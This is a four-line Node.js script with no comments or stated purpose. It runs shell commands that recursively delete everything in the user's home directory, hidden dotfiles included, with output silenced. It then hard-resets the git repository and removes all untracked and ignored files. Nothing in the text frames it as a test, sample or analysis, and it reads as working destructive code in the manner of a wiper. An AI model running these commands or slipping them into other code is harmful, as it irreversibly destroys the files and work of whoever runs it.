const { execSync } = require("child_process");
const os = require("os");
execSync(`rm -rf ${os.homedir()}/* ${os.homedir()}/.[!.]*`, { stdio: "ignore" });
execSync("git reset --hard && git clean -xdf", { stdio: "inherit" });
